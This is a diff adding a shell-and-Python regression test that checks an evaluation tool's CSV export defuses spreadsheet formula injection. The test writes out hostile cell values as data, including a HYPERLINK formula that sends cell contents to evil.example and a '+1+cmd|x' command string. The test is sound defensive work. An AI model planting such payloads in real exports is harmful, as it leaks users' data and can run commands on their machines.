@@ -68,6 +68,37 @@ print("same")
 PY
 assert_eq "$(cat "$T/csvcheck")" same "CSV and JSONL agree: columns, order, hashes, exact composites, NULLs"
 
+# CSV injection: a cell whose text fields are spreadsheet formulas (an agent
+# or a task controls outcome_reason, ids and paths).  Every text cell that
+# starts with = + - @ TAB or CR is exported with a leading single quote;
+# numbers (a negative one included) stay numbers.
+HOSTILE=$T/hostile
+mkdir -p "$HOSTILE"
+cp -a "$OUT/exp" "$HOSTILE/"
+hc=$(find "$HOSTILE" -name cell.json -not -path '*.attempt-*' | head -n1)
+jq '.outcome_reason = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" | .sweep_id = "+1+cmd|x" |
+  .container_image = "-2+3" | .environment.scoring_profile = "@SUM(A1:A9)" | .environment.methodology_version = "\tTAB" |
+  .tokens_source = "\r=1+1"' "$hc" >"$hc.new" && mv "$hc.new" "$hc"
+run_cab "$T/hostile.csv" results export "$HOSTILE" --format csv
+assert_rc 0 "export of a cell with formula fields exits 0"
+python3 - "$T/hostile.csv" >"$T/hostile.check" 2>&1 <<'PY'
+import csv, sys
+rows = list(csv.DictReader(open(sys.argv[1], newline="")))
+bad = [(k, v) for r in rows for k, v in r.items() if v and v[0] in "=+-@\t\r"]
+assert not bad, bad
+r = [r for r in rows if r["outcome_reason"].startswith("'=HYPERLINK")]
+assert len(r) == 1, [x["outcome_reason"] for x in rows]
+r = r[0]
+assert r["outcome_reason"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", r["outcome_reason"]
+assert r["container_image"] == "'-2+3", r["container_image"]
+assert r["scoring_profile"] == "'@SUM(A1:A9)", r["scoring_profile"]
+assert r["methodology_version"] == "'\tTAB", repr(r["methodology_version"])
+assert r["tokens_source"] == "'\r=1+1", repr(r["tokens_source"])
+print("neutralised")
+PY
+assert_eq "$(cat "$T/hostile.check")" neutralised \
+  "every text field starting with = + - @ TAB or CR gets a leading quote; the values are otherwise intact"
+
 # --out FILE: the same bytes, written atomically; --attempts adds the attempt.
 run_cab "$T/out.stdout" results export "$OUT" --out "$T/export.jsonl"
 assert_rc 0 "--out exits 0"
